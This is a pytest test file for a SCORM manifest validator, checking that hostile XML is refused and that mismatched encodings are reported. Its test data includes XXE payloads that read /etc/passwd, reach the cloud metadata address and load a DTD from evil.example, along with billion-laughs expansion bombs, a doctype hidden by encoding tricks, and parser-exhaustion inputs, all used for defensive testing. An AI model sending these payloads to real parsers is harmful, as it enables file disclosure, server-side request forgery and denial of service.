"""Manifests that attack the parser, and manifests whose encoding is not what they say."""

import time

import pytest

from scorm import UnreadableError, validate
from scorm.safexml import parse
from tests.scorm.samples import manifest, package

ROOT = '<manifest identifier="M" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2">&x;</manifest>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

DOCTYPES = {
    "external entity": f'<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>{ROOT}',
    "external entity over the network": f'<!DOCTYPE m [<!ENTITY x SYSTEM "http://169.254.169.254/">]>{ROOT}',
    "parameter entity": f'<!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>{ROOT}',
    "external subset": f'<!DOCTYPE m SYSTEM "http://evil.example/x.dtd">{ROOT}',
    "billion laughs": f'<!DOCTYPE m [<!ENTITY l0 "lol">{LAUGHS}<!ENTITY x "&l9;">]>{ROOT}',
    "quadratic blow-up": f'<!DOCTYPE m [<!ENTITY x "{"a" * 50_000}">]>{ROOT.replace("&x;", "&x;" * 9_000)}',
    "harmless, even": f"<!DOCTYPE m>{ROOT}",
    "behind a comment": f"<!-- <x> --><?pi <!-- ?>\n<!DOCTYPE m [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{ROOT}",
}
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-be", "utf-16-le", "utf-32", "utf-32-be")


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("attack", DOCTYPES)
def test_a_doctype_is_refused_before_the_parser(attack: str, encoding: str) -> None:
    data = f"<?xml version='1.0'?>{DOCTYPES[attack]}".encode(encoding)
    report = validate(data)
    assert [f.code for f in report.findings] == ["xml-doctype"]
    assert report.exit_code == 2


def test_a_doctype_in_the_manifest_of_a_zip_is_refused() -> None:
    assert [f.code for f in validate(package(DOCTYPES["external entity"])).findings] == ["xml-doctype"]


@pytest.mark.parametrize("encoding", ["utf-7", "cp037", "punycode", "rot13", "base64", "x-none", "idna"])
def test_an_encoding_in_which_a_doctype_could_hide_is_refused(encoding: str) -> None:
    data = f'<?xml version="1.0" encoding="{encoding}"?>+ADw-!DOCTYPE m+AD4-<a/>'.encode()
    assert validate(data).exit_code == 2


def test_nul_bytes_do_not_hide_a_doctype() -> None:
    assert validate(b"<\0!\0D\0O\0C\0T\0Y\0P\0E\0 \0m\0>\0" + b"<a/>").exit_code == 2
    assert validate(b"<!DOC\0TYPE m [<!ENTITY x 'y'>]><a>&x;</a>").exit_code == 2


@pytest.mark.parametrize(
    "data",
    [
        b"<a>" * 100_000,
        b"<a " + b"b='" * 100_000,
        b"<!--" * 100_000,
        b"<?" * 100_000,
        b"<a>" + b"&amp;" * 1_000_000 + b"</b>",
        b"<a " + b" ".join(b'a%d="x"' % n for n in range(100_000)) + b"/>",
        b"<a xmlns:" + b" xmlns:".join(b'p%d="u%d"' % (n, n) for n in range(50_000)) + b"/>",
        ROOT.encode().replace(b">&x;", b" " + b" ".join(b'a%d="x"' % n for n in range(400_000)) + b">"),
        b" " * 1_000_000 + b"<a/>",
        b"\xef\xbb\xbf" * 1_000 + b"<a/>",
        b"<manifest>" + b"x" * 12_000_000 + b"</manifest>",
        b"<a>" + b" " * 17_000_000 + b"</a>",
    ],
    ids=lambda data: repr(bytes(data[:12])),
)
def test_what_would_tire_a_parser_is_refused_in_no_time(data: bytes) -> None:
    started = time.monotonic()
    assert validate(data).exit_code in (1, 2)
    assert time.monotonic() - started < 5


def test_a_doctype_in_text_is_text() -> None:
    text = manifest(item="<!-- <!DOCTYPE html> -->", title="<title><![CDATA[<!DOCTYPE html>]]></title>")
    assert validate(text.encode()).sound


def test_xinclude_and_schema_locations_are_not_followed() -> None:
    """A schemaLocation that names another schema changes nothing: ours is fixed."""
    text = manifest().replace(
        "<manifest ",
        '<manifest xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation='
        '"http://www.imsproject.org/xsd/imscp_rootv1p1p2 http://127.0.0.1:9/evil.xsd" ',
    )
    assert validate(text.encode()).sound


class TestEncodings:
    TITLE = "<title>Håndhygiene på blåveis</title>"

    @pytest.mark.parametrize(
        "encoding", ["UTF-8", "UTF-16", "ISO-8859-1", "windows-1252", "ISO-8859-15", "us-ascii"]
    )
    def test_what_a_manifest_claims_truly_is_read_silently(self, encoding: str) -> None:
        text = manifest(title=self.TITLE if encoding != "us-ascii" else "<title>Hands</title>")
        text = text.replace('encoding="UTF-8"', f'encoding="{encoding}"')
        assert validate(text.encode(encoding)).findings == ()

    def test_windows_1252_that_claims_to_be_utf_8_is_read_and_told(self) -> None:
        report = validate(manifest(title=self.TITLE).encode("cp1252"))
        assert [(f.code, f.line) for f in report.findings] == [("xml-encoding", 1)]
        assert "cp1252" in report.findings[0].message
        assert report.exit_code == 1

    def test_utf_8_that_claims_to_be_utf_16_is_read_and_told(self) -> None:
        text = manifest().replace("UTF-8", "UTF-16")
        assert [f.code for f in validate(text.encode()).findings] == ["xml-encoding"]

    def test_lines_before_the_declaration_are_told_and_counted(self) -> None:
        document = parse(b"\n\n<?xml version='1.0'?>\n<a/>", "imsmanifest.xml")
        assert [p.code for p in document.problems] == ["xml-start"]
        assert document.root.sourceline == 4

    def test_a_prefix_without_declaration_is_understood_and_told(self) -> None:
        text = manifest().replace(' xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"', "")
        report = validate(text.encode())
        assert [f.code for f in report.findings] == ["xml-prefix-undeclared"]

    def test_a_line_is_named_where_xml_ends(self) -> None:
        with pytest.raises(UnreadableError, match="line 3"):
            parse(b"<a>\n<b>\n</a>", "imsmanifest.xml")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "file-empty"),
        (b"  \r\n", "file-empty"),
        (b"%PDF-1.7", "not-a-package"),
        (b"\x1f\x8b\x08\x00", "not-a-package"),
        (b"<!DOCTYPE html><html>Sign in", "not-a-package"),
        (b"<html><body>Sign in", "not-a-package"),
        (b"Hello", "not-a-package"),
        (b"\x89PNG\r\n", "not-a-package"),
        (b"<rss/>", "root-unknown"),
        (b'<manifest xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1"/>', "common-cartridge"),
    ],
)
def test_what_is_no_course_is_named(data: bytes, code: str) -> None:
    report = validate(data)
    assert [f.code for f in report.findings] == [code]
    assert report.exit_code == 2
